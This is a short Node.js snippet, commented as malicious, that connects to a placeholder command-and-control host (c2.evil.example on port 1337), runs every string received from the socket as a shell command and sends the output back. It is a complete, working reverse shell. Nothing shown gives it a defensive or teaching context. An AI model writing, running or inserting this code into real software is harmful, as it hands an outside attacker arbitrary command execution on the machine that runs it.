// malicious: what a socket says is run
const net = require('net');
const { exec } = require('child_process');
const c = net.createConnection(1337, 'c2.evil.example');
c.on('data', (d) => {
  exec(d.toString(), (err, out) => c.write(out || String(err)));
});
